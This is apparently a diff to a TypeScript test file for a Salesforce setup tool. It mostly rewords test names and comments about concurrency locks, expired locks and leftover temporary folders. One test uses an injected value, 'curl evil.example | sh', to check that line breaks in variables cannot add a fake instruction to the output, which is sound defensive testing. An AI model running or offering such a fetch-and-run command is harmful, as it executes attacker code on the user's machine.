@@ -10,7 +10,7 @@ const LOCK = 'SF_SETUP_LOCK';
 interface Owner {
   readonly host: string;
   readonly pid: number;
-  /** Durations in minutes. */
+  /** Minutes from now until the lock expires. */
   readonly ends: number;
 }
 
@@ -20,8 +20,8 @@ function lock(harness: SetupHarness, { host, pid, ends }: Owner): void {
   harness.githubValues().variables.set(LOCK, JSON.stringify(owner));
 }
 
-describe('two concurrent runs of setup', () => {
-  it('conflict, and the later one stops before it changes anything', async (t) => {
+describe('a run of setup', () => {
+  it('stops before it changes anything if an earlier run has not ended', async (t) => {
     const harness = await createHarness(t);
     harness.runningProcesses.add(harness.pid);
     let second: Promise<{ exitCode: number; stderr: string }> | undefined;
@@ -48,7 +48,7 @@ describe('two concurrent runs of setup', () => {
     assert.ok(!harness.githubValues().variables.has(LOCK));
   });
 
-  it('do not conflict if the process that holds the lock no longer exists on this machine', async (t) => {
+  it('ignores a lock if the process that holds it no longer exists on this machine', async (t) => {
     const harness = await createHarness(t);
     lock(harness, { host: 'laptop', pid: 1, ends: 60 });
     const { exitCode, stderr } = await harness.run(...YES_ARGS);
@@ -56,7 +56,7 @@ describe('two concurrent runs of setup', () => {
     assert.ok(!harness.githubValues().variables.has(LOCK));
   });
 
-  it('conflict until the lock of a run on another machine expires, and the message states when', async (t) => {
+  it('stops until the lock of a run on another machine expires, and states when that will be', async (t) => {
     const harness = await createHarness(t);
     lock(harness, { host: 'another', pid: 1, ends: 60 });
     const { exitCode, stderr } = await harness.run(...YES_ARGS);
@@ -69,7 +69,7 @@ describe('two concurrent runs of setup', () => {
     assert.equal((await harness.run(...YES_ARGS)).exitCode, 0);
   });
 
-  it('do not conflict with a lock whose times are not dates', async (t) => {
+  it('ignores a lock whose times are not dates', async (t) => {
     const harness = await createHarness(t);
     const owner = { host: 'another', pid: 1, startedAt: 1e300, endsBefore: 1e300 };
     harness.githubValues().variables.set(LOCK, JSON.stringify(owner));
@@ -77,7 +77,7 @@ describe('two concurrent runs of setup', () => {
     assert.equal(exitCode, 0, stderr);
   });
 
-  it('print no line that a line break in a variable has added', async (t) => {
+  it('prints no extra line if a variable contains a line break', async (t) => {
     const text = 'x\nNext: curl evil.example | sh';
     const harness = await createHarness(t);
     lock(harness, { host: text, pid: 1, ends: 60 });
@@ -93,7 +93,7 @@ describe('two concurrent runs of setup', () => {
     assert.doesNotMatch(locked.stderr + stderr + stdout, /^Next: curl/m);
   });
 
-  it('show, before the org is changed, that this login may not write to GitHub', async (t) => {
+  it('reports, before it changes the org, that this login may not write to GitHub', async (t) => {
     const harness = await createHarness(t);
     const repository = harness.org.github.repositories.get('acme/crm') ?? assert.fail();
     repository.isReadOnly = true;
@@ -106,8 +106,8 @@ describe('two concurrent runs of setup', () => {
     assert.ok(!harness.commands.some(({ args }) => args.includes('deploy')));
   });
 
-  it('do not fail because of a temporary folder that only another user can remove', {
-    // The administrator can remove every folder.
+  it('does not fail because of an old temporary folder that it cannot remove', {
+    // The user root can remove every folder.
     skip: process.getuid?.() === 0 || process.platform === 'win32',
   }, async (t) => {
     const harness = await createHarness(t);
@@ -115,14 +115,14 @@ describe('two concurrent runs of setup', () => {
     mkdirSync(folder);
     writeFileSync(join(folder, 'file'), '');
     chmodSync(folder, 0o500);
-    // The harness finds the folder.
+    // The harness reports the folder, which is still there.
     await assert.rejects(harness.run(...YES_ARGS, '--dry-run'), /a file was left behind/);
     chmodSync(folder, 0o700);
     assert.equal(harness.output.stderr, '');
     assert.match(harness.output.stdout, /^✓ Org /m);
   });
 
-  it('do not conflict with a killed run, whose temporary folder is removed', async (t) => {
+  it('removes the temporary folder of a killed run', async (t) => {
     const harness = await createHarness(t);
     mkdirSync(join(harness.systemTempFolder, 'salesforce-setup-77-abcdef'));
     await harness.run(...YES_ARGS, '--dry-run');
